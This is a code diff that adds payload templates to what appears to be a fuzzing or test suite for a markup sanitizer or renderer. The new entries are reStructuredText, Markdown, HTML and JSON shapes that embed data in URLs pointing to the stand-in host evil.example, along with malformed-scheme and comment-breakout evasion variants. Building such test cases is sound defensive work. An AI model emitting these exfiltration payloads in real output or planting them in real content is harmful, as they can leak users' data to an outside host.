@@ -137,6 +137,14 @@ SHAPES = [
     "[[https://evil.example/?q= {} ][x]]", "image::https://evil.example/?q= {} .png[]", "@import url('//evil.example/?q= {} ');",
     "!https://evil.example/?q= {} !", "\nimage: https://evil.example/?q= {}", "url( https://evil.example/?q= {} )",
     "<https://evil.example/?q= {} >",
+    "`x`__\n\n__ http://evil.example/?q= {}\n", "\n.. image::\n   http://evil.example/?q= {}",
+    "x_\n\n.. _x:\n   http://evil.example/?q= {}\n",
+    "\n.. image:: a.png\n   :target:\n     http://evil.example/?q=\n     {}\n", "\n.. image:: / /evil.example/?q= {}",
+    "\n.. image:: http:/evil.example/?q= {}", "\n.. image:: https:evil.example/?q= {}", "\n.. image:: \\\\evil.example/?q= {}",
+    "\n* .. image:: http:/evil.example/?q= {}", '{ "url": "https:/evil.example/? {}" }', '{ "url": "\\\\\\\\evil.example/? {}" }',
+    '{ "url": "/\\t/evil.example/? {}" }', "`<!-- >`\n\n<pre><img alt=a\" src=\"//evil.example/?\n\n--> {} \"></pre>",
+    "\\<!-- >\n\n<pre><img alt=a\" src=\"//evil.example/?\n\n--> {} \">",
+    "`<!-- >`\n\n<div><img alt=a\" src=\"https:/evil.example/? --> {} \"></div>",
     "<form action=//evil.example/><select name=q><option> {} </select>", "<" + " " * 3 + "a href='//evil.example/?q= {} '" + "<a x={}",
     "<svg><style> b {{ content: ' {} ' }}", "<!-- {} -->", "<a title=' > {} '>", "<a title={} href=' {} '>",
 ]  # fmt: skip
@@ -249,6 +257,7 @@ PARTS = [
     "<", "a", "](", "]", "(", ")", ">", "'", '"', " ", "<script", "</script>", "<b ", "x", "<<", "<STYLE>", "</style ", "=", "/", "<!--",
     "--", "-->", "!", "\\", "\\u003c", "\\u00", "3c", "\\x2", "2", "\\n", "<title>", "</title", "<plaintext", "\\u{3", "c}", "?", "\n",
     "//", "https:", "x", ":", "]:", "\n\n", "data:", "..", " ", "w" * 30, "www.", "\\\\", "(", "@",
+    "\x01", "\x02", ".. ", "__ ", "::", "https:/", "w" * 100, "\x02" * 160, " " * 58, "\t", "/ /",
 ]  # fmt: skip
 
 
